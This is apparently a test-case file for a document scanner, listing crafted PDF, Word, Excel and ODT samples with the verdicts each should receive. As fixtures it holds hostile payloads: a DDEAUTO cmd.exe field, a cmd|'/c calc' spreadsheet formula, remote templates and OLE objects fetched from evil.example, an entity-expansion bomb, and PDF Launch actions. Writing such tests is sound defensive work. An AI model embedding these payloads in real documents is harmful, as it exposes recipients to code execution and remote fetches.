"""PDF and office files."""

import random

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.evidence import files
from tests.evidence.corpus import case


def half(make, *given):
    content = make(*given)
    return content[: len(content) // 2]


def noise():
    return b"%PDF-1.4\n" + random.Random(1).randbytes(5000)


def with_password(user):
    return files.pdf(encryption=pikepdf.Encryption(user=user, owner="owner"))


def huge_page():
    def change(document):
        document.pages[0].MediaBox = Array([0, 0, 14400 * 40, 14400 * 40])

    return files.pdf(change)


def circle_of_outlines():
    def change(document):
        first = document.make_indirect(Dictionary(Title="one"))
        first.Next = first
        document.Root.Outlines = Dictionary(Type=Name.Outlines, First=first, Last=first, Count=1)

    return files.pdf(change)


def pages(number):
    """A PDF of blank pages, written by hand."""
    kids = b" ".join(b"%d 0 R" % (3 + page) for page in range(number))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/MediaBox[0 0 200 200]/Kids[%b]/Count %d>>" % (kids, number),
        *[b"<</Type/Page/Parent 2 0 R>>"] * number,
    ]
    out, table = bytearray(b"%PDF-1.4\n"), bytearray(b"0000000000 65535 f \n")
    for at, content in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj%b endobj\n" % (at, content)
    trailer = b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (number + 3, len(out))
    return bytes(out + b"xref\n0 %d\n" % (number + 3) + table + trailer)


def followed_by(make, tail):
    return make() + tail


def preceded_by(head, make):
    return head + make()


PDFS = [
    case("plain.pdf", files.pdf, preview=True),
    case("script.pdf", files.pdf_that_acts, "JavaScript", warnings=("active_content",), preview=True),
    case("submit.pdf", files.pdf_that_acts, "SubmitForm", warnings=("active_content",)),
    case("web address at once.pdf", files.pdf_that_acts, "URI", warnings=("active_content",)),
    case("launch.pdf", files.pdf_that_acts, "Launch", reason="active_content"),
    case("launch behind a link.pdf", lambda: files.pdf_that_acts("Launch", where="link"), reason="active_content"),
    case("launch in a chain.pdf", lambda: files.pdf_that_acts("Launch", where="chain"), reason="active_content"),
    case("10,000 pages.pdf", pages, 10_000, preview=True),
    case("200,000 pages.pdf", pages, 200_000, reason="too_complex"),
    case("password to open.pdf", with_password, "user", warnings=("unreadable_password",), preview=False),
    case("password to change only.pdf", with_password, "", preview=True),
    case("cut to its head.pdf", lambda: files.pdf()[:100], reason="broken_document"),
    case("noise.pdf", noise, reason="broken_document"),
    case("two tables that point at each other.pdf", files.pdf_with_xref_loop, reason="broken_document"),
    case("a tree that bites its tail.pdf", files.pdf_that_bites_its_tail, reason="too_complex"),
    case("outlines in a circle.pdf", circle_of_outlines),
    case("a page of 200 metres.pdf", huge_page),
    case("changed after signing.pdf", files.pdf_changed_after_signing, warnings=("changed_after_signing",)),
    case("a file inside.pdf", files.pdf_with_attachment, warnings=("embedded_files",)),
    case("pdf and program.pdf", followed_by, files.pdf, files.EXE, reason="mixed_content"),
    case("program and pdf.pdf", preceded_by, files.EXE, files.pdf, reason="mixed_content"),
    case("pdf and archive.pdf", followed_by, files.pdf, files.archive({"a.txt": b"a"}), reason="mixed_content"),
    case("pdf and page.pdf", followed_by, files.pdf, files.HTML, reason="mixed_content"),
    case("page.pdf", files.HTML, door="content_mismatch"),
    case("program.pdf", files.EXE, door="type_not_allowed"),
]

RELATION = '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'  # noqa: E501
BOMB = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'


def docx_with(name, content):
    return files.docx(**{name: content})


def xlsx_with(name, content):
    return files.xlsx(**{name: content})


def odt_with(name, content):
    return files.odt(**{name: content})


def related(kind, target):
    return RELATION.format(kind, target)


OFFICE = [
    case("plain.docx", files.docx),
    case("macro.docx", docx_with, "word/vbaProject.bin", b"x", door="type_not_allowed"),
    case(
        "template from elsewhere.docx",
        docx_with,
        "word/_rels/settings.xml.rels",
        related("attachedTemplate", "http://evil.example/t.dotm"),
        reason="active_content",
    ),
    case(
        "object from elsewhere.docx",
        docx_with,
        "word/_rels/document.xml.rels",
        related("oleObject", "mhtml:http://evil.example/x!x"),
        reason="active_content",
    ),
    case(
        "picture from elsewhere.docx",
        docx_with,
        "word/_rels/document.xml.rels",
        related("image", "http://evil.example/pixel.png"),
        warnings=("external_content",),
    ),
    case("a link to press.docx", docx_with, "word/_rels/document.xml.rels", related("hyperlink", "http://a.example")),
    case("entities.docx", docx_with, "word/document.xml", BOMB, reason="too_complex"),
    case("entities in UTF-16.docx", docx_with, "word/document.xml", BOMB.encode("utf-16"), reason="too_complex"),
    case("an object inside.docx", docx_with, "word/embeddings/oleObject1.bin", b"x", warnings=("embedded_files",)),
    case("a control that runs.docx", docx_with, "word/activeX/activeX1.xml", "<ax:ocx/>", reason="active_content"),
    case(
        "a field that runs.docx",
        docx_with,
        "word/document.xml",
        '<w:document><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:document>',
        reason="active_content",
    ),
    case("a program inside.docx", docx_with, "word/media/image1.png", files.EXE, reason="archive_unsafe"),
    case("plain.xlsx", files.xlsx),
    case("macro.xlsx", xlsx_with, "xl/vbaProject.bin", b"x", door="type_not_allowed"),
    case("old macro.xlsx", xlsx_with, "xl/macrosheets/sheet1.xml", "<x/>", door="type_not_allowed"),
    case(
        "a cell that runs.xlsx",
        xlsx_with,
        "xl/worksheets/sheet1.xml",
        "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>",
        reason="active_content",
    ),
    case("an exchange.xlsx", xlsx_with, "xl/externalLinks/externalLink1.xml", "<ddeLink/>", reason="active_content"),
    case("a formula.xlsx", xlsx_with, "xl/worksheets/sheet1.xml", '<c><f>A1&amp;"|"&amp;Sheet2!B1</f></c>'),
    case(
        "another workbook.xlsx",
        xlsx_with,
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        related("externalLinkPath", "file:///c:/other.xlsx"),
        warnings=("external_content",),
    ),
    case("plain.odt", files.odt),
    case("macro.odt", odt_with, "Basic/Standard/Module1.xml", "x", door="type_not_allowed"),
    case("an event.odt", odt_with, "content.xml", "<c><script:event-listener/></c>", reason="active_content"),
    case(
        "picture from elsewhere.odt",
        odt_with,
        "content.xml",
        '<c><draw:image xlink:href="http://evil.example/p.png"/></c>',
        warnings=("external_content",),
    ),
    case("old.doc", files.doc, door="type_not_allowed"),
    case("cut.docx", half, files.docx, door="archive_unsafe"),
]
CASES = PDFS + OFFICE
